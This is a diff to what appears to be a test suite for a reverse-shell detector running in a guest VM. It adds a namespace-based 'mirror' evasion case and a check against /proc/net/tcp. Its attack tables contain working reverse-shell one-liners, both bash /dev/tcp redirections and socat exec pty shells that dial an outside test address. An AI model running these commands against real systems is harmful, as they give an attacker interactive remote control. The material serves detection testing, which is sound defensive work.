@@ -37,6 +37,15 @@ def run_case(guest, svc, setup, attack, cleanup, seconds=4):
 EXT = f"{OUTSIDE}:{OUTSIDE_QUIET}"
 EXT_TCP = f"{OUTSIDE}/{OUTSIDE_QUIET}"
 EXT_CMD = f"{OUTSIDE}:{OUTSIDE_COMMAND}"
+GUEST_IP = "192.0.2.10"        # the guest's own address on the user network
+MIRROR_PORT = 45123
+
+
+def ip_hex(ip):
+    """An IPv4 address as /proc/net/tcp prints it (little-endian hex)."""
+    return "".join(f"{int(b):02X}" for b in reversed(ip.split(".")))
+
+
 # a local service: a listener in the guest itself
 LISTEN = "sleep 1000 | socat TCP-LISTEN:{port},reuseaddr -"
 
@@ -54,6 +63,18 @@ ATTACKS = {
     # machine is followed to whoever holds its other end
     "local proxy": ("socat TCP-LISTEN:4460,reuseaddr TCP:" + EXT,
                     "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4460 0>&1'", "bash", 2),
+    # a root attacker plants a mirror of the shell's connection in a
+    # network namespace of his, on the attacker's address: a SYN from
+    # 192.0.2.100:4444 to the port the shell will dial from, never
+    # answered.  A socket that never connected is no other end: the
+    # connection still goes out.
+    "mirror planted in a namespace": (
+        f"unshare -n sh -c \"ip link set lo up; ip addr add {OUTSIDE}/32 dev lo; "
+        f"ip route add {GUEST_IP}/32 dev lo; "
+        f"exec socat TCP:{GUEST_IP}:{MIRROR_PORT},bind={OUTSIDE}:{OUTSIDE_QUIET} -\" & "
+        "sleep 0.5; cat /proc/$!/net/tcp >/tmp/mirror.tcp; wait",
+        f"socat exec:'bash -li',pty,stderr,setsid tcp:{EXT},bind={GUEST_IP}:{MIRROR_PORT},reuseaddr",
+        "bash", 2),
     # a copy of bash under a harmless name: known by its content
     "renamed bash": (None,
                      "cp /bin/bash /tmp/kworkr; "
@@ -98,6 +119,12 @@ def test_reverse_shell(guest, svc, case):
             for n in p["process_details"]["network_connection_list"]]
     assert any(n["destination_ip_address"] == OUTSIDE and
                n["destination_port"] in (OUTSIDE_QUIET, OUTSIDE_COMMAND) for n in nets), nets
+    if case == "mirror planted in a namespace":
+        # the mirror was there: in its namespace, SYN_SENT from the
+        # attacker's address and port to the shell's
+        lines = guest.check("cat /tmp/mirror.tcp; rm -f /tmp/mirror.tcp").strip().split("\n")
+        mirror = f"{ip_hex(OUTSIDE)}:{OUTSIDE_QUIET:04X} {ip_hex(GUEST_IP)}:{MIRROR_PORT:04X} 02"
+        assert any(mirror in " ".join(ln.split()[1:4]) for ln in lines), lines
     print(f"{case}: chain of {len(chain)} processes")
 
 
@@ -130,7 +157,7 @@ LOOKALIKES = {
                                        "socat exec:'bash -li',pty,stderr,setsid "
                                        "tcp:127.0.0.1:4464"),
     "shell on a service at the guest's own address": (
-        LISTEN.format(port=4465), "bash -c 'exec bash -i >& /dev/tcp/192.0.2.10/4465 0>&1'"),
+        LISTEN.format(port=4465), f"bash -c 'exec bash -i >& /dev/tcp/{GUEST_IP}/4465 0>&1'"),
 }
 
 
